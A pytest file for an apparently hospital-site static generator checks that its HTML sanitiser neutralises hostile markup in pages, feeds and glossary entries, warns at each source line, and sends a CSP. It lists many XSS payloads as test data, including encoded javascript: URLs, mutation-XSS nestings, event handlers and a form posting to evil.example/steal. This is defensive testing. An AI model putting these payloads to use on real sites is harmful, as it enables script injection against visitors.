"""HTML safety: hostile markup in a body is dead in the built page and in the feeds, each removal is
a warning at its source line, the example site's pages are untouched, every page sends a CSP, and a
glossary definition is shown as text wherever it appears."""

from __future__ import annotations

import json
import re
from pathlib import Path
from urllib.parse import urlsplit

import lxml.html
import pytest
from lxml import etree

from conftest import NOW, Project
from radsite.content.load import load
from radsite.publish.sanitize import Sanitizer, Source, page_sources
from radsite.settings import from_mkdocs_yml
from radsite.visibility import decide

SITE = "https://radiology.northbrook-health.example/"
EMBED = "www.youtube-nocookie.com"
CSP = ("script-src 'self' 'wasm-unsafe-eval'; object-src 'none'; base-uri 'self'; img-src 'self' data:; "
       "media-src 'self'; frame-src 'none'")
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")

HOSTILE = """---
title: Hostile markup in a news post
summary: A news body full of markup that must not run anywhere.
tags: [news]
date: 2026-11-20
---
Plain text first.

<script>alert('rs-xss-script')</script>

<p><img src="images/new-mri-scanner.png" alt="The scanner" onerror="alert('rs-xss-onerror')"></p>

A [Markdown link](javascript:alert(1)) and <a href="JaVaScRiPt:alert('rs-xss-case')">mixed case</a>.

<a href="&#106;avascript:alert('rs-xss-entity')">entity encoded</a>

<svg onload="alert('rs-xss-svg')"><circle r="4"></circle></svg>

<iframe src="https://evil.example/embed"></iframe>

<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Allowed video"></iframe>

<math><mi><style><img src="x.png" alt="m" onerror="alert('rs-xss-math')"></style></mi></math>

<style>body{background:url("javascript:alert('rs-xss-style')")}</style>

<ScRiPt SRC="https://evil.example/x.js">alert('rs-xss-mixed')</sCrIpT>

<IMG SRC="images/new-mri-scanner.png" ALT="Upper case" OnErRoR="alert('rs-xss-upper')">

A paragraph with an attribute list.
{: onmouseover="alert('rs-xss-attr-list')" }

<form action="https://evil.example/steal"><input name="q" value="rs-xss-form"></form>

<object data="https://evil.example/x.swf">rs-xss-object</object>

![A picture from elsewhere](https://tracker.example/rs-xss-remote.gif)

<img src="//tracker.example/rs-xss-protocol-relative.gif" alt="r"> <img src="/\\tracker.example/rs-xss-backslash.gif" alt="b">

<picture><source srcset="https://tracker.example/rs-xss-source.webp 2x"><img src="images/new-mri-scanner.png" alt="p"></picture>

<p data-rs="1">A short value, also written on the lines above.</p>
"""
HOSTILE_PAGE = """---
title: Hostile plain page
---
A plain page.

<details><summary>More</summary><p onclick="alert('rs-xss-page')">Hidden text.</p></details>
"""


def line_of(text: str, needle: str) -> int:
    return next(n for n, row in enumerate(text.splitlines(), 1) if needle in row)


def dead(doc: lxml.html.HtmlElement, where: str) -> None:
    """No script that runs, no handler, no script URL, no iframe from elsewhere, no trace of the payloads."""
    for script in doc.iter("script"):
        kind, src = script.get("type", ""), script.get("src")
        assert kind == "application/ld+json" or (src and not urlsplit(src).netloc), (where, etree.tostring(script))
        assert "rs-xss" not in (script.text or ""), where
    for element in doc.iter(etree.Element):
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), (where, element.tag, name)
            assert "rs-xss" not in value, (where, element.tag, name, value)
            if name in ("href", "src", "action", "data", "poster", "formaction"):
                assert not re.sub(r"[\s\x00-\x1f]", "", value).lower().startswith(BAD_SCHEMES), (where, value)
        if element.tag == "iframe":
            assert urlsplit(element.get("src", "")).hostname == EMBED, where


def no_forbidden_elements(content: lxml.html.HtmlElement, where: str) -> None:
    """What the body may not embed (the theme's own header has a search form and inline icons)."""
    for element in content.iter(etree.Element):
        tag = element.tag.rsplit("}", 1)[-1]
        assert tag not in ("form", "input", "object", "embed", "style", "math", "svg", "script"), (where, tag)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Project, str]:
    from conftest import make_project

    project = make_project(tmp_path_factory.mktemp("hostile") / "project")
    config = project.root / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace(
        "      department:", f"      embed_hosts: [{EMBED}]\n      department:", 1), encoding="utf-8")  # fmt: skip
    project.write("news/hostile-markup.md", HOSTILE)
    project.write("hostile-page.md", HOSTILE_PAGE)
    run = project.build()
    assert run.returncode == 0, run.output
    return project, run.output


def test_nothing_hostile_is_live_in_the_built_pages(hostile: tuple[Project, str]) -> None:
    project, _ = hostile
    for url in ("news/hostile-markup", "hostile-page"):
        doc = lxml.html.fromstring(project.page(url))
        dead(doc, url)
        no_forbidden_elements(doc.xpath("//*[@data-pagefind-body]")[0], url)
    news = lxml.html.fromstring(project.page("news/hostile-markup"))
    assert [i.get("src") for i in news.iter("iframe")] == ["https://www.youtube-nocookie.com/embed/abc"]
    assert news.xpath("//img[@alt='The scanner']") and news.xpath("//a[text()='mixed case']")
    page = lxml.html.fromstring(project.page("hostile-page"))
    assert page.xpath("//details/p[text()='Hidden text.']")


def test_nothing_hostile_is_live_in_the_feeds(hostile: tuple[Project, str]) -> None:
    project, _ = hostile
    ns = {"atom": "http://www.w3.org/2005/Atom", "content": "http://purl.org/rss/1.0/modules/content/"}
    checked = 0
    for feed in ("news.atom", "all.atom", "news.xml", "all.xml"):
        tree = etree.parse(str(project.site / "feeds" / feed))
        for text in tree.xpath("//atom:entry/atom:content/text() | //item/content:encoded/text()", namespaces=ns):
            if "Plain text first." in text:
                fragment = lxml.html.fragment_fromstring(text, create_parent="div")
                dead(fragment, feed)
                no_forbidden_elements(fragment, feed)
                checked += 1
    assert checked == 4, "the hostile post must be in each of the four feeds"


def test_the_policy_lets_frames_come_from_the_embed_hosts_only(hostile: tuple[Project, str]) -> None:
    """With `embed_hosts` set, frame-src lists exactly those hosts over https (the default is 'none')."""
    project, _ = hostile
    for url in ("news/hostile-markup", "hostile-page", ""):
        doc = lxml.html.fromstring(project.page(url) if url else (project.site / "404.html").read_text(encoding="utf-8"))
        [policy] = doc.xpath("//head/meta[@http-equiv='Content-Security-Policy']/@content")
        directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
        assert directives["frame-src"] == f"https://{EMBED}", (url, policy)
        assert directives["script-src"] == "'self' 'wasm-unsafe-eval'", policy


def test_each_removal_is_a_warning_at_its_line(hostile: tuple[Project, str]) -> None:
    _, output = hostile
    warnings = [row for row in output.splitlines() if "[html]" in row]
    for needle, what in [
        ("<script>alert", "<script> removed"), ("onerror=\"alert('rs-xss-onerror", "onerror= of <img> removed"),
        ("](javascript:", "href= of <a> removed: javascript:"), ("JaVaScRiPt", "href= of <a> removed: javascript:"),
        ("&#106;avascript", "href= of <a> removed: javascript:"), ("<svg", "<svg> removed"),
        ("rs-xss-remote", "src= of <img> removed: images must be files of this site"),
        ("rs-xss-protocol-relative", "src= of <img> removed: images must be files of this site"),
        ("rs-xss-source", "srcset= of <source> removed: images must be files of this site"),
        ("data-rs=", "data-rs= of <p> removed"),
        ("evil.example/embed", "src= of <iframe> removed"), ("<math>", "<math> removed"),
        ("<style>body", "<style> removed"), ("<ScRiPt", "<script> removed"), ("OnErRoR", "onerror= of <img> removed"),
        ("{: onmouseover", "onmouseover= of <p> removed"), ("<form", "<form> removed"), ("<object", "<object> removed"),
    ]:  # fmt: skip
        where = f"content/news/hostile-markup.md:{line_of(HOSTILE, needle)}: warning: [html] {what}"
        assert any(where in row for row in warnings), (where, warnings)
    where = f"content/hostile-page.md:{line_of(HOSTILE_PAGE, 'onclick')}: warning: [html] onclick= of <p> removed"
    assert any(where in row for row in warnings), (where, warnings)
    assert not any("Traceback" in row for row in output.splitlines())


@pytest.mark.parametrize("markup", [
    "<script>alert(1)</script>", "<img src=x alt=a onerror=alert(1)>", '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>', '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mi><style><img src=x alt=a onerror=alert(1)></style></mi></math>",
    '<math><mtext><table><mglyph><style><img src=x alt=a onerror=alert(1)>', "<iframe src=https://evil.example/>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<style>@import 'https://evil.example/x.css'</style>",
    "<SCRIPT>alert(1)</SCRIPT>", "<ImG sRc=x AlT=a OnLoAd=alert(1)>", "<image src=x alt=a onerror=alert(1)>",
    "<!--><img src=x alt=a onerror=alert(1)>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<path onclick=alert(1)>c</path>",
    '<form><button formaction="javascript:alert(1)">x</button></form>', '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">', '<base href="javascript:alert(1)//">', '<video src="https://evil.example/v.mp4"></video>',
    '<video poster="javascript:alert(1)" src="v.mp4"></video>', '<img src="x" alt="a" srcset="javascript:alert(1) 2x">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<div style="background:url(javascript:alert(1))">x</div>',
])  # fmt: skip
def test_hostile_markup_comes_out_dead_with_a_warning(markup: str) -> None:
    markup = markup.replace("alert(1)", "alert('rs-xss')")
    body = f"Intro line.\n\n{markup}\n"
    result = Sanitizer([EMBED], SITE).sanitize(f"<p>Intro line.</p>\n{markup}", Source("content/x.md", body, 4))
    fragment = lxml.html.fragment_fromstring(result.html, create_parent="div")
    dead(fragment, markup)
    no_forbidden_elements(fragment, markup)
    assert result.findings, markup
    assert all(f.path == "content/x.md" and f.line == 6 and f.level == "warning" for f in result.findings), [
        f.format() for f in result.findings
    ]


def test_what_editors_may_embed_is_kept_as_written() -> None:
    markup = (
        '<h2 id="prep">Preparation</h2>\n<div class="admonition note">\n<p class="admonition-title">Note</p>\n'
        '<p>Text &amp; more &mdash; <abbr title="Computed tomography">CT</abbr><br />\n</p>\n</div>\n'
        '<figure><img alt="Chest" height="200" loading="lazy" src="images/chest.png" srcset="images/chest@2x.png 2x"'
        ' width="300" /><figcaption>Chest</figcaption></figure>\n<details open><summary>More</summary><p>x</p></details>\n'
        '<table>\n<thead>\n<tr>\n<th style="text-align: right;">mSv</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n'
        '<td style="text-align: right;">0.1</td>\n</tr>\n</tbody>\n</table>\n'
        '<p><a href="https://example.org/?a=1&amp;b=2">web</a> <a href="mailto:info@example.org">mail</a> '
        '<a href="tel:+15550100">call</a> <a href="../faq/">FAQ</a> <a href="#prep">here</a></p>\n'
        '<video controls src="clip.mp4"><track kind="captions" src="clip.vtt" srclang="en"></video>\n'
        f'<video src="{SITE}media/clip.mp4"></video>\n<iframe src="https://{EMBED}/embed/abc" title="Video"></iframe>\n'
        "<!-- answer -->\n"
    )
    result = Sanitizer([EMBED], SITE).sanitize(markup, Source("content/x.md", markup, keeps_answer_marker=True))
    assert result.html == markup
    assert result.findings == []


def test_the_example_sites_pages_are_unchanged(project: Project) -> None:
    """Every page's HTML as Markdown wrote it, recorded by a hook that runs before RadSite, goes
    through the sanitiser unchanged; and the real build (sanitiser wired in) warns about nothing."""
    (project.root / "record_html.py").write_text(
        "import json\nfrom pathlib import Path\nfrom mkdocs.plugins import event_priority\nPAGES = {}\n\n"
        "@event_priority(100)\ndef on_page_content(html, page, config, files):\n"
        "    PAGES[page.file.src_uri] = html\n    return html\n\n"
        "def on_post_build(config):\n"
        "    Path(config.config_file_path).with_name('pages.json').write_text(json.dumps(PAGES))\n",
        encoding="utf-8",
    )
    config = project.root / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8") + "\nhooks:\n  - record_html.py\n", encoding="utf-8")
    run = project.build("--strict")
    assert run.returncode == 0, run.output
    assert "[html]" not in run.output
    pages = json.loads((project.root / "pages.json").read_text(encoding="utf-8"))
    assert len(pages) > 50 and any(uri.startswith("cases/") for uri in pages)
    settings = from_mkdocs_yml(config)
    sources = page_sources(decide(load(project.content).content, settings.policy({"RADSITE_NOW": NOW})))
    assert len(sources) > 40 and set(sources) <= set(pages)  # the pages the build sanitises: every editor's body
    sanitizer = Sanitizer([], SITE)
    for uri, source in sources.items():
        html = pages[uri]
        result = sanitizer.sanitize(html, source)
        assert result.findings == [], (uri, [f.format() for f in result.findings])
        assert result.html == html, uri


# Inline <script> elements a browser never runs (no script-src applies): JSON-LD, and the JSON data blocks
# that give a page's script its words in the page's language (search labels, the case zoom).
DATA_BLOCKS = ("application/ld+json", "application/json")


def test_every_page_sends_the_policy_and_no_inline_script(built_example: Project) -> None:
    pages = sorted(built_example.site.rglob("*.html"))
    assert len(pages) > 50
    for path in pages:
        doc = lxml.html.fromstring(path.read_bytes())
        metas = doc.xpath("//head/meta[@http-equiv='Content-Security-Policy']")
        assert [m.get("content") for m in metas] == [CSP], path
        first_script = next(iter(doc.iter("script")), None)
        if first_script is not None:  # the policy must come before anything it governs
            assert metas[0].getparent().index(metas[0]) < list(doc.iter()).index(first_script), path
        for script in doc.iter("script"):
            assert script.get("src") or script.get("type") in DATA_BLOCKS, (path, (script.text or "")[:60])
        for element in doc.iter(etree.Element):
            assert not [name for name in element.attrib if name.lower().startswith("on")], (path, element.tag)


def test_theme_templates_carry_no_inline_script_or_handler() -> None:
    root = Path(__file__).resolve().parents[1] / "theme"
    for template in root.rglob("*.html"):
        text = template.read_text(encoding="utf-8")
        assert not re.search(r"<script(?![^>]*\bsrc=)(?![^>]*application/(?:ld\+)?json\b)[^>]*>", text), template
        assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=", text, re.IGNORECASE), template


def test_an_iframe_in_an_attribute_or_comment_is_not_taken_for_one() -> None:
    """Removing a disallowed iframe reads nh3's output token by token: text that looks like an iframe
    inside a title or a comment must not make it cut the page in the middle of an attribute."""
    markup = (
        '<p title="<iframe>">Title</p><!-- <iframe> --><iframe src="https://evil.example/"></iframe>'
        f'<p>" onmouseover="alert(\'rs-xss\')" x="</p><iframe src="https://{EMBED}/e" title="a>b"><b>c</b></iframe>'
    )
    result = Sanitizer([EMBED], SITE).sanitize(markup, Source("content/x.md", markup))
    fragment = lxml.html.fragment_fromstring(result.html, create_parent="div")
    dead(fragment, markup)
    assert [p.get("title") for p in fragment.iter("p")] == ["<iframe>", None]
    assert [i.get("src") for i in fragment.iter("iframe")] == [f"https://{EMBED}/e"]
    assert [f.message.split(":")[0] for f in result.findings] == ["src= of <iframe> removed"]


# A glossary entry written to break out of every place a definition is shown (tooltip, A-Z page, JSON-LD).
GLOSSARY_ALIAS = "rsxalias <img src=y onerror=alert('rs-xss-alias')>"
GLOSSARY_DEFINITION = (
    "A word & more. <script>alert('rs-xss-gloss')</script> <img src=x onerror=\"alert('rs-xss-gloss-img')\"> "
    '"quoted" </span></dd></script><b>rs-xss-break</b>'
)


@pytest.fixture(scope="module")
def hostile_glossary(tmp_path_factory: pytest.TempPathFactory) -> Project:
    from conftest import make_project

    project = make_project(tmp_path_factory.mktemp("glossary") / "project")
    glossary = project.content / "glossary.yml"
    entry = {"term": "rsxterm", "aliases": [GLOSSARY_ALIAS], "definition": GLOSSARY_DEFINITION}
    glossary.write_text(glossary.read_text(encoding="utf-8") + "\n- " + json.dumps(entry) + "\n", encoding="utf-8")
    faq = project.content / "faq/chest-x-ray-radiation.md"
    faq.write_text(faq.read_text(encoding="utf-8") + "\nThe rsxterm shows up in some reports.\n", encoding="utf-8")
    run = project.build("--strict")
    assert run.returncode == 0, run.output
    return project


def inert(doc: lxml.html.HtmlElement, where: str) -> None:
    """No script but files and JSON-LD, no handler, and none of the glossary entry's markup became elements."""
    for script in doc.iter("script"):
        assert script.get("src") or script.get("type") in DATA_BLOCKS, (where, (script.text or "")[:80])
    for element in doc.iter(etree.Element):
        assert not [name for name in element.attrib if name.lower().startswith("on")], (where, element.tag)
    assert not doc.xpath("//img[@src='x' or @src='y'] | //b[contains(., 'rs-xss')]"), where


def test_a_glossary_definition_is_text_wherever_it_is_shown(hostile_glossary: Project) -> None:
    project = hostile_glossary
    for path in sorted(project.site.rglob("*.html")):
        inert(lxml.html.fromstring(path.read_bytes()), str(path))
    glossary = lxml.html.fromstring(project.page("glossary"))
    [term] = glossary.xpath("//dt[@id='term-rsxterm']")
    assert term.text_content() == f"rsxterm (also: {GLOSSARY_ALIAS})"
    assert term.getnext().tag == "dd" and term.getnext().text_content() == GLOSSARY_DEFINITION
    scripts = [s.text for s in glossary.xpath("//script[@type='application/ld+json']")]
    assert scripts and all("<" not in text for text in scripts)
    blocks = [json.loads(text) for text in scripts]
    items = [data for block in blocks for data in (block if isinstance(block, list) else [block])]
    terms = [t for data in items if data.get("@type") == "DefinedTermSet" for t in data["hasDefinedTerm"]]
    assert [t["description"] for t in terms if t["name"] == "rsxterm"] == [GLOSSARY_DEFINITION]
    faq = lxml.html.fromstring(project.page("faq/chest-x-ray-radiation"))
    [tip] = faq.xpath("//span[@class='rs-def'][strong='rsxterm']")
    assert tip.text_content() == f"rsxterm: {GLOSSARY_DEFINITION}"
    assert faq.xpath(f"//button[@class='rs-term'][@popovertarget='{tip.get('id')}']/text()") == ["rsxterm"]
